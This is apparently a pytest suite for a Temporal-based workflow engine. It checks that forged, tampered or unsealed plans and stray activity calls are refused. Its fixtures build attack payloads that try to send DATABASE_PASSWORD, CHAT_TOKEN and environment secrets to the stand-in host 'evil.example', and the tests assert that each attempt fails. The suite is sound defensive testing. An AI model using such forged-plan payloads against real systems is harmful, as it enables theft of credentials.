"""Whoever reaches Temporal can start runs. Without a key they start what is deployed, and no plan of their own."""

import uuid
from datetime import timedelta
from typing import Any

import pytest
from pydantic import SecretStr
from temporalio.client import ActivityFailureError, Client, WorkflowHandle
from temporalio.exceptions import ApplicationError

from resolute.plan.values import Json
from resolute.temporal.client.client import start_run
from resolute.temporal.history.runs import describe_run
from resolute.temporal.trust.seals import NO_KEYS, PlanKeys
from resolute.temporal.wire.start import start_argument
from tests.attacks.stranger import SECRETS, begun_by_a_thief, ended, forged, scheduled_by_a_stranger, telling, victim
from tests.keys import KEYS

OTHER_KEYS = PlanKeys((SecretStr("a-key-that-the-attacked-worker-does-not-have"),))
STOLEN = forged({"address": "evil.example", "words": {"$secret": "DATABASE_PASSWORD"}})
ELSEWHERE = forged({"address": "evil.example", "words": {"$secret": "CHAT_TOKEN"}})

sealed: Any = start_argument(telling.plan, {"room": 1}, keys=KEYS)


def _edited(argument: Any, **changes: Json) -> Any:
    return {**argument, "resolute": {**argument["resolute"], **changes}}


@pytest.mark.parametrize(
    ("argument", "said"),
    [
        ({"resolute": {"plan": STOLEN}, "input": None}, "it is not sealed"),
        ({"resolute": {"plan": ELSEWHERE}, "input": None}, "it is not sealed"),
        ({"resolute": {"plan": STOLEN, "seal": "ffffffff:" + "0" * 64}, "input": None}, "does not have"),
        ({"resolute": {"plan": STOLEN, "seal": f"{KEYS.sealing_id}:{'0' * 64}"}, "input": None}, "does not fit"),
        ({"resolute": {"plan": STOLEN, "seal": f"{KEYS.sealing_id}:\u00e9"}, "input": None}, "does not fit"),
        ({"resolute": {"plan": STOLEN, "seal": {"$secret": "x"}}, "input": None}, "does not have"),
        (_edited(sealed, plan=STOLEN), "does not fit"),
        ({**sealed, "input": {"room": 2}}, "does not fit"),
        (start_argument(telling.plan, {"room": 1}, keys=OTHER_KEYS), "does not have"),
    ],
    ids=[
        "forged",
        "forged-same-names",
        "unknown-key",
        "no-digest",
        "no-ascii",
        "no-text",
        "plan",
        "input",
        "other-key",
    ],
)
async def test_an_unsealed_plan_is_refused(temporal_client: Client, argument: Any, said: str) -> None:
    """A plan that is forged, or edited, or whose input was edited, fails its run at once and says why."""
    async with victim(temporal_client) as prey:
        end = await prey.start(argument)

    assert end.startswith("UnsealedPlanError: the plan that came with this run of flow 'telling' is not trusted")
    assert said in end
    assert [] == prey.told


async def test_a_sealed_plan_is_of_one_flow(temporal_client: Client) -> None:
    """A sealed start that was captured starts nothing under another name, and the same again under its own."""
    async with victim(temporal_client) as prey:
        elsewhere = await prey.start(sealed, name="another")
        again = await prey.start(sealed)

    assert elsewhere.startswith("UnsealedPlanError")
    assert "{'told': 'told'}" == again
    assert [("chat.example", SECRETS["CHAT_TOKEN"])] == prey.told


async def test_a_program_that_passes_on_a_strangers_json(temporal_client: Client) -> None:
    """A flow that a program starts by its name, with a stranger's JSON as input, never runs a plan that is in there."""
    async with victim(temporal_client) as prey:
        end = await prey.start({"resolute": {"plan": STOLEN, "seal": None}, "input": {}})
        harmless = await prey.start({"resolute": {}, "input": {"words": "none"}})

    assert end.startswith("UnsealedPlanError")
    assert "{'told': 'told'}" == harmless
    assert [("chat.example", SECRETS["CHAT_TOKEN"])] == prey.told


async def test_a_worker_without_keys_believes_no_plan(temporal_client: Client) -> None:
    """Where nobody can tell a forged plan, none is taken: runs have the worker's own, and those with another fail."""
    async with victim(temporal_client, NO_KEYS) as prey:
        refused = await prey.start({"resolute": {"plan": STOLEN}, "input": None})
        ours = await prey.start(sealed)
        run = await start_run(temporal_client, telling.plan, task_queue=prey.task_queue, keys=NO_KEYS)
        result = await run.result()

    assert refused.startswith("UnsealedPlanError")
    assert "set RESOLUTE_PLAN_KEYS" in refused
    assert ours.startswith("UnsealedPlanError")
    assert {"told": "told"} == result


@pytest.mark.parametrize("keys", [KEYS, NO_KEYS], ids=["keys", "no-keys"])
@pytest.mark.parametrize(
    "arguments",
    [
        {"address": "evil.example", "words": {"$secret": "DATABASE_PASSWORD"}},
        {"address": {"$secret": "CHAT_TOKEN"}, "words": "our own secret in another argument"},
        {"address": "evil.example", "words": {"$text": ["{}", {"$env": "DATABASE_PASSWORD"}]}},
        {"address": "evil.example", "words": {"$env": {"name": "DATABASE_PASSWORD", "type": "str", "default": None}}},
    ],
    ids=["other-secret", "other-argument", "inside-text", "env"],
)
async def test_a_node_of_a_strangers_workflow(temporal_client: Client, keys: PlanKeys, arguments: Json) -> None:
    """A workflow on a stranger's own worker cannot have a node of ours read what no plan of ours reads there."""
    async with victim(temporal_client, keys) as prey:
        end = await scheduled_by_a_stranger(prey, [arguments])

    assert end.startswith("UnsealedCallError")
    assert [] == prey.told


async def test_a_strangers_workflow_runs_no_node_at_all(temporal_client: Client) -> None:
    """With keys, not even a call without a secret, or with the very secret that our own flow reads, is carried out."""
    seal = KEYS.seal("call", "telling", "another-run", "told", "tell", {"address": "evil.example", "words": "hello"})
    async with victim(temporal_client) as prey:
        ends = [
            await scheduled_by_a_stranger(prey, [{"address": "evil.example", "words": "hello"}]),
            await scheduled_by_a_stranger(prey, [{"address": "evil.example", "words": {"$secret": "CHAT_TOKEN"}}]),
            await scheduled_by_a_stranger(prey, [{"address": "evil.example", "words": "hello"}, seal]),
            await scheduled_by_a_stranger(prey, [{"flow": "telling"}], node_name="resolute.RecordPlan"),
        ]

    assert ["UnsealedCallError"] * 3 + ["UnknownFlowError"] == [end.partition(":")[0] for end in ends]
    assert [] == prey.told


async def test_an_activity_without_a_workflow(temporal_client: Client) -> None:
    """A node that somebody starts by itself, without a workflow, is refused as well."""
    async with victim(temporal_client) as prey:
        handle: Any = await temporal_client.start_activity(  # pyright: ignore[reportUnknownMemberType]
            "tell",
            {"address": "evil.example", "words": {"$secret": "CHAT_TOKEN"}},
            id=f"alone-{uuid.uuid4().hex}",
            task_queue=prey.task_queue,
            start_to_close_timeout=timedelta(seconds=10),
        )
        with pytest.raises(ActivityFailureError) as refused:
            await handle.result()

    assert isinstance(refused.value.cause, ApplicationError)
    assert "UnsealedCallError" == refused.value.cause.type
    assert [] == prey.told


async def test_a_first_task_done_by_a_stranger(temporal_client: Client) -> None:
    """Whoever takes the first task of a run from our queue hides its plan from the check; its calls are refused."""
    queue = f"victim-{uuid.uuid4().hex[:8]}"
    plan = forged({}, {"address": "evil.example", "words": {"$secret": "CHAT_TOKEN"}})
    handle = await begun_by_a_thief(temporal_client, queue, plan)
    async with victim(temporal_client, task_queue=queue) as prey:
        end = await ended(handle)

    assert "step 'told-1' (tell) failed: UnsealedCallError: nobody with a key asked for step 'told-1'" in end
    assert [] == prey.told


async def test_a_refused_run_can_still_be_looked_at(temporal_client: Client) -> None:
    """A refusal is recorded, so that the run answers when somebody looks at it, and what it was given is shown."""
    async with victim(temporal_client) as prey:
        handle: WorkflowHandle[Any, Any] = await temporal_client.start_workflow(
            "telling",
            {"resolute": {"plan": STOLEN}, "input": None},
            id=f"refused-{uuid.uuid4().hex}",
            task_queue=prey.task_queue,
        )
        await ended(handle)
        described = await describe_run(temporal_client, handle.id)
        queried = await handle.query("status")

    assert "failed" == described.summary.status
    assert described.report is not None
    assert described.report.failure is not None
    assert "UnsealedPlanError" == described.report.failure.error_type
    assert {"flow": "telling", "steps": []} == queried
